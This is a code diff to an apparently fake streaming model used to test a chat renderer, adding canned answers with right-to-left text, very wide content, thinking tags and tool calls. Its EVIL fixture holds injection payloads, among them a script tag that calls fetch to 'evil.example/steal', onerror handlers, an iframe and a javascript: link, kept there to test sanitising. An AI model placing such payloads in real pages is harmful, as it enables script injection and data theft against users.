@@ -46,6 +46,49 @@ $$
 It costs $5 or $6, which is no formula.
 """
 
+RTL = r"""هذه إجابة قصيرة باللغة العربية، وفيها كلمة English واحدة.
+
+1. النقطة الأولى
+2. النقطة الثانية مع `code(1)` و $x^2$
+   - نقطة فرعية
+
+> اقتباس قصير
+
+| العمود | القيمة |
+|---|---:|
+| أول | 1 |
+
+```python
+print("left to right")
+```
+
+An English paragraph, which begins on the left.
+"""
+
+WIDE = (
+    "A_word_without_any_space_" * 12
+    + "\n\nhttps://example.org/"
+    + "a-long-path/" * 20
+    + "\n\n```text\n"
+    + "one very long line of code " * 20
+    + "\n```\n\n"
+    + "|"
+    + "|".join(f" column {i} " for i in range(14))
+    + "|\n|"
+    + "---|" * 14
+    + "\n"
+    + "|"
+    + "|".join(f" value of {i} " for i in range(14))
+    + "|\n\n"
+    + "$$\n"
+    + " + ".join(f"x_{{{i}}}^{{2}}" for i in range(60))
+    + "\n$$\n\n"
+    + "".join("  " * level + f"- level {level} of a list\n" for level in range(9))
+    + "\n"
+    + "> " * 6
+    + "a quotation of a quotation\n"
+)
+
 EVIL = r"""<script>window.pwned = 1; fetch("https://evil.example/steal")</script>
 <img src="https://evil.example/pixel.png" onerror="window.pwned = 2">
 <iframe src="https://evil.example/frame"></iframe>
@@ -72,6 +115,28 @@ $\href{javascript:window.pwned=9}{x}$ $\includegraphics{https://evil.example/m.p
 |---|---|
 | <img src="https://evil.example/t.png"> | &lt;script&gt;alert(1)&lt;/script&gt; |
 """
+
+
+WRITTEN: dict[str, tuple[str, int, AnswerForm | None, float]] = {
+    "markdown": (MARKDOWN, 4, None, 0.001),
+    "rtl": (RTL, 4, None, 0.001),
+    "wide": (WIDE, 9, None, 0.001),
+    "evil": (EVIL, 5, None, 0.001),
+    "think": (
+        "<think>The user wants thoughts. Let me weigh both sides first.</think>After thinking: yes.",
+        4,
+        THINKING,
+        0.01,
+    ),
+    "tools": (
+        "Let me look." + call("get_weather", {"city": "Oslo", "unit": "celsius"}),
+        4,
+        HERMES,
+        0.005,
+    ),
+    "info": ("Let me see." + call("get_info", {}), 4, HERMES, 0.001),
+}
+"""Answers that are always the same: text, characters per token, form, and seconds between tokens."""
 
 
 def long_text(n_tokens: int) -> list[str]:
@@ -103,26 +168,21 @@ def script(request: Generate) -> list[Step]:
     if last["role"] == "tool":
         return _steps(request, cut(f"The tool said: {said}.", 3), None, 0.005)
     word = said.split()[0].lower() if said.split() else ""
+    if word in WRITTEN:
+        text, size, form, pause_s = WRITTEN[word]
+        return _steps(request, cut(text, size), form, pause_s)
+    numbers = [float(number) for number in said.split()[1:] if number.replace(".", "").isdigit()]
     match word:
-        case "markdown":
-            return _steps(request, cut(MARKDOWN, 4), None, 0.001)
-        case "evil":
-            return _steps(request, cut(EVIL, 5), None, 0.001)
-        case "think":
-            text = (
-                "<think>The user wants thoughts. Let me weigh both sides first.</think>After thinking: yes."
-            )
-            return _steps(request, cut(text, 4), THINKING, 0.01)
-        case "tools":
-            text = "Let me look." + call("get_weather", {"city": "Oslo", "unit": "celsius"})
-            return _steps(request, cut(text, 4), HERMES, 0.005)
+        case "ponder":
+            line = "A line of the thoughts, which goes on for some words.\n"
+            text = f"<think>{line * int(numbers[0])}</think>Done."
+            return _steps(request, cut(text, 6), THINKING, 0.002)
         case "slow":
             return _steps(request, [f"word{i} " for i in range(400)], None, 0.02)
         case "long":
-            n_tokens = int(said.split()[1])
-            return _steps(request, long_text(n_tokens), None, 1 / float(said.split()[2]))
+            return _steps(request, long_text(int(numbers[0])), None, 1 / numbers[1])
         case "code":
-            lines = [f"row_{i} = {i} * 2  # line\n" for i in range(int(said.split()[1]))]
+            lines = [f"row_{i} = {i} * 2  # line\n" for i in range(int(numbers[0]))]
             return _steps(request, ["```python\n", *lines, "```\n"], None, 0.01)
         case "fail":
             steps = _steps(request, ["Half an answer"], None, 0.01)[:-2]
@@ -134,7 +194,7 @@ def script(request: Generate) -> list[Step]:
             return _steps(request, cut(text, 3), None, 0.001)
         case "count":
             return _steps(request, [f"There are {len(prompt.messages)} messages."], None, 0.001)
-    return _steps(request, cut(f"You said: {said}", 3), None, 0.005)
+    return _steps(request, cut(f"You said: {said[:2000]}", 3), None, 0.005)
 
 
 def _steps(request: Generate, pieces: list[str], form: AnswerForm | None, pause_s: float) -> list[Step]:
